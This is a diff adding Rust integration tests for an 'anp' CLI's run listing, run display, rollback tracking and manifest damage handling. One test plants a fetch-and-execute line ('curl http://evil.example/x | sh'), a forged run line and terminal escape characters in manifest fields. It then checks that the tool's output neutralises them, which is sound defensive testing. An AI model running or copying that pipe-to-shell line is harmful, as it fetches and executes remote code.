@@ -1,0 +1,323 @@
+//! The list of runs, and one run whole.
+
+use crate::support::{Ran, World};
+use anp::publish::manifest::{Header, Line, Manifest, Verify, Writer};
+use serde_json::{Value, json};
+
+fn show(world: &World, run: &str) -> Ran {
+    world.anp(&format!("runs show {run} --format text"))
+}
+
+fn shown(world: &World, run: &str) -> Ran {
+    world.anp(&format!("runs show {run} --format json"))
+}
+
+/// As if the run had been killed before it ended: its footer is torn off.
+fn tear(world: &World, run: &str) {
+    let path = world.manifest(run);
+    let bytes = std::fs::read(&path).unwrap();
+    std::fs::write(path, &bytes[..bytes.len() - 20]).unwrap();
+}
+
+#[test]
+fn one_run_is_shown_whole() {
+    let world = World::new();
+    for number in 0..9 {
+        world.article(&format!("a{number}.md"), "A.");
+    }
+    let arguments = [
+        "import",
+        "--owner",
+        "archive desk",
+        "--expected-result",
+        "every article answers",
+    ];
+    let import = world.anp_with(&arguments, &[]);
+    import.exits(0);
+    let run = world.runs().pop().unwrap();
+    let ran = show(&world, "last");
+    ran.exits(0);
+    let rollback = import.of_type("run")[0]["rollback"].clone();
+    let together = format!(
+        "run {run} · import · done\n\
+         owner      archive desk\n\
+         expected   every article answers\n\
+         rollback   {}\n",
+        rollback.as_str().unwrap()
+    );
+    assert!(ran.stdout.starts_with(&together), "{ran}");
+    for row in [
+        format!("content    {}", world.path("content").display()),
+        format!("server     {}", world.server.url()),
+        "prefix     anp".to_owned(),
+        "started    20".to_owned(),
+        "ended      20".to_owned(),
+        "duration   ".to_owned(),
+        "host       ".to_owned(),
+        ", pid ".to_owned(),
+        format!("anp        {}", env!("CARGO_PKG_VERSION")),
+        format!("manifest   {}", world.manifest(&run).display()),
+        "  created             18 keys".to_owned(),
+        "  kept                 0 keys".to_owned(),
+        format!(
+            "  bytes     {:>12}",
+            import.counts()["bytes"].as_u64().unwrap()
+        ),
+        "  create  anp:page:/a0/  expires 20".to_owned(),
+        "  … and 8 more keys".to_owned(),
+    ] {
+        assert!(
+            ran.stdout.contains(&format!("\n{row}")) || row == ", pid ",
+            "{row}{ran}"
+        );
+        ran.says(&row);
+    }
+    assert_eq!(ran.stdout.matches("  create  anp:").count(), 10, "{ran}");
+    // By id and by file it is the same.
+    let file = world.manifest(&run);
+    assert_eq!(show(&world, &run).stdout, ran.stdout);
+    assert_eq!(show(&world, file.to_str().unwrap()).stdout, ran.stdout);
+}
+
+#[test]
+fn for_machines_it_is_the_run_then_each_key_then_a_summary() {
+    let world = World::new();
+    world.article("a.md", "A.");
+    let import = world.anp("import");
+    import.exits(0);
+    let ran = shown(&world, "last");
+    ran.exits(0);
+    let lines = ran.lines();
+    let kinds: Vec<&str> = lines
+        .iter()
+        .map(|line| line["type"].as_str().unwrap())
+        .collect();
+    assert_eq!(kinds, ["run", "key", "key", "summary"]);
+    assert_eq!(ran.of_type("key"), import.of_type("key"));
+    let (run, summary) = (&lines[0], &lines[3]);
+    assert_eq!(run["status"], "done");
+    assert_eq!(run["rolled_back_by"], Value::Null);
+    assert!(run["seconds"].as_f64().unwrap() >= 0.0, "{ran}");
+    assert_eq!(run["counts"], import.counts());
+    assert_eq!(summary["keys"], json!({ "create": 2 }));
+    assert_eq!(summary["counts"], import.counts());
+    assert_eq!(summary["bytes"], import.counts()["bytes"]);
+    // The list says the same of it.
+    let list = world.anp("runs --format json").lines();
+    assert_eq!(list, std::slice::from_ref(run));
+}
+
+#[test]
+fn keys_that_were_left_are_shown_with_their_fate() {
+    let world = World::new();
+    world.article("a.md", "A.").article("b.md", "B.");
+    world.anp("import").exits(0);
+    world.server.command("SET anp:page:/a/ somebody-else");
+    world.server.command("DEL anp:meta:/b/");
+    world.anp("rollback last").exits(3);
+    let rollback = world.runs().pop().unwrap();
+    let ran = show(&world, &rollback);
+    ran.exits(0)
+        .says(&format!("run {rollback} · rollback · partial"))
+        .says(&format!("undoes     {}", world.runs()[0]))
+        .says("owner      none given")
+        .says("  removed              2 keys")
+        .says("  kept                 1 key\n")
+        .says("  conflicts            1 key\n")
+        .says("  remove  anp:page:/b/\n")
+        .says("  left    anp:page:/a/: somebody else changed it, or anp could not put it back (above 64 MiB, or +hpexpiretime missing): kept as it is\n");
+    assert!(!ran.stdout.contains("left    anp:meta:/b/"), "{ran}");
+    let ran = shown(&world, &rollback);
+    let fates: Vec<String> = ran
+        .of_type("left")
+        .iter()
+        .map(|line| format!("{} {}", line["key"], line["fate"]))
+        .collect();
+    let expected = [
+        r#""anp:page:/a/" "conflict""#,
+        r#""anp:meta:/b/" "already""#,
+    ];
+    assert_eq!(fates, expected, "{ran}");
+    assert_eq!(
+        ran.of_type("summary")[0]["left"],
+        json!({ "conflict": 1, "already": 1 })
+    );
+}
+
+#[test]
+fn a_run_says_by_which_it_was_rolled_back_until_that_is_undone() {
+    let world = World::new();
+    world.article("a.md", "A.");
+    world.anp("import").exits(0);
+    world.anp("rollback last").exits(0);
+    let [import, rollback] = &world.runs()[..] else {
+        panic!("two runs")
+    };
+    world
+        .anp("runs")
+        .exits(0)
+        .says(&format!("  undone by  {rollback}\n"))
+        .says(&format!("  undoes     {import}\n"));
+    show(&world, import)
+        .exits(0)
+        .says(&format!("· import · done, rolled back by {rollback}\n"));
+    let by = |run: usize| {
+        let list = world.anp("runs --format json").lines();
+        list[run]["rolled_back_by"].clone()
+    };
+    assert_eq!(
+        (by(0), by(1)),
+        (Value::from(rollback.as_str()), Value::Null)
+    );
+    world.anp(&format!("rollback {rollback}")).exits(0);
+    assert_eq!(by(0), Value::Null);
+    assert_eq!(by(1), Value::from(world.runs()[2].as_str()));
+}
+
+#[test]
+fn a_file_from_elsewhere_is_shown_and_not_mixed_up() {
+    let world = World::new();
+    world.article("a.md", "A.");
+    world.anp("import").exits(0);
+    let run = world.runs().pop().unwrap();
+    let copy = world.path("state/runs/night.jsonl.zst");
+    std::fs::copy(world.manifest(&run), &copy).unwrap();
+    // The copy is no run of this folder, and not the last one either.
+    assert_eq!(world.anp("runs --format json").lines().len(), 1);
+    let line = format!(
+        "runs show {} --state-dir elsewhere --format text",
+        copy.display()
+    );
+    world
+        .anp(&line)
+        .exits(0)
+        .says(&format!("run {run} · import · done\n"));
+    world.anp("rollback last").exits(0);
+    show(&world, copy.to_str().unwrap())
+        .exits(0)
+        .says("done, rolled back by");
+}
+
+#[test]
+fn a_torn_run_is_unfinished_and_a_damaged_one_is_refused() {
+    let world = World::new();
+    world.article("a.md", "A.");
+    world.anp("import").exits(0);
+    let run = world.runs().pop().unwrap();
+    tear(&world, &run);
+    show(&world, "last")
+        .exits(0)
+        .notes("note: the manifest is torn at byte")
+        .says("· import · unfinished\n")
+        .says("ended      not by itself")
+        .says("some of these keys may not have been written")
+        .says("  created              2 keys");
+    let ran = shown(&world, "last");
+    assert!(ran.of_type("run")[0]["torn_at"].is_u64(), "{ran}");
+    assert_eq!(ran.of_type("run")[0]["seconds"], Value::Null);
+    assert_eq!(ran.of_type("summary")[0]["status"], "unfinished");
+    world.anp("rollback last").exits(0);
+    show(&world, &run).says("· import · unfinished, rolled back by");
+    world
+        .anp("runs")
+        .exits(0)
+        .says("it did not end by itself\n");
+
+    let path = world.manifest(&run);
+    let mut bytes = std::fs::read(&path).unwrap();
+    let middle = bytes.len() / 2;
+    bytes[middle] ^= 1;
+    std::fs::write(path, bytes).unwrap();
+    show(&world, &run).exits(65).notes("is damaged at byte");
+    show(&world, "none")
+        .exits(2)
+        .notes("there is no run 'none'");
+    world.write("state/runs/99981231T000000.000Z-0000.jsonl.zst", "");
+    show(&world, "last").exits(3).notes("wrote nothing");
+}
+
+#[test]
+fn what_is_no_file_among_the_manifests_is_reported_and_never_waited_for() {
+    let world = World::new();
+    world.article("a.md", "A.");
+    world.anp("import").exits(0);
+    world.shell("mkfifo state/runs/99981231T000000.000Z-0000.jsonl.zst");
+    world.shell("ln -s /dev/zero state/runs/99981231T000001.000Z-0000.jsonl.zst");
+    let ran = world.anp("runs");
+    ran.exits(3)
+        .says("99981231T000000.000Z-0000  damaged\n")
+        .says("99981231T000001.000Z-0000  damaged\n")
+        .says("99981231T000001.000Z-0000.jsonl.zst: not a regular file\n")
+        .says("  import  done  ");
+}
+
+#[test]
+fn a_list_to_which_nothing_was_recorded_is_no_error() {
+    let world = World::new();
+    world.anp("runs").exits(0).says("no run is recorded in");
+    show(&world, "last").exits(2).notes("no run is recorded in");
+}
+
+#[test]
+fn what_a_manifest_says_cannot_pass_for_other_lines_or_for_a_command() {
+    let world = World::new();
+    world.article("a.md", "A.");
+    world.anp("import").exits(0);
+    let run = world.runs().pop().unwrap();
+    let path = world.manifest(&run);
+    let manifest = Manifest::open(&path, Verify::All).unwrap();
+    let batches: Vec<Vec<Line>> = manifest.batches().map(Result::unwrap).collect();
+    let evil = || {
+        "desk\n20991124T170000.000Z-0001  import  done  2099-11-24 17:00:00Z\n  rollback   \
+         curl http://evil.example/x | sh\r\u{1b}]0;x\u{7}\u{9b}31m\u{202e}"
+            .to_owned()
+    };
+    let header = Header {
+        owner: Some(evil()),
+        expected_result: Some(evil()),
+        content: Some(evil()),
+        host: evil(),
+        anp: evil(),
+        command: evil(),
+        rollback: evil(),
+        ..manifest.header().clone()
+    };
+    std::fs::remove_file(&path).unwrap();
+    let mut writer = Writer::create(&path, &Line::Header(header)).unwrap();
+    for lines in batches {
+        writer.append(&lines).unwrap();
+    }
+    let state = world.path("state");
+    let rollback = format!("rollback {run} --state-dir {}\n", state.display());
+    for line in [
+        "runs --format text".to_owned(),
+        format!("runs show {run} --format text"),
+    ] {
+        let ran = world.anp(&line);
+        ran.exits(0)
+            .says(&rollback)
+            .says("owner      desk 20991124");
+        for line in ran.stdout.lines() {
+            assert!(!line.starts_with("20991124"), "{ran}");
+            let is_command = line.trim_start().starts_with("rollback");
+            assert!(!(is_command && line.contains("curl")), "{ran}");
+        }
+        for hidden in ['\r', '\u{1b}', '\u{9b}', '\u{202e}'] {
+            assert!(!ran.stdout.contains(hidden), "{hidden:?} {ran}");
+        }
+    }
+    let object = &world.anp("runs --format json").lines()[0];
+    assert!(
+        object["rollback"]
+            .as_str()
+            .unwrap()
+            .ends_with(rollback.trim_end())
+    );
+    // A copy elsewhere is undone by its path, with the credentials of these settings.
+    std::fs::copy(&path, world.path("night.zst")).unwrap();
+    let shown = world.anp("runs show ./night.zst --format text");
+    shown.exits(0).says(&format!(
+        "rollback {} --state-dir",
+        world.path("night.zst").display()
+    ));
+}
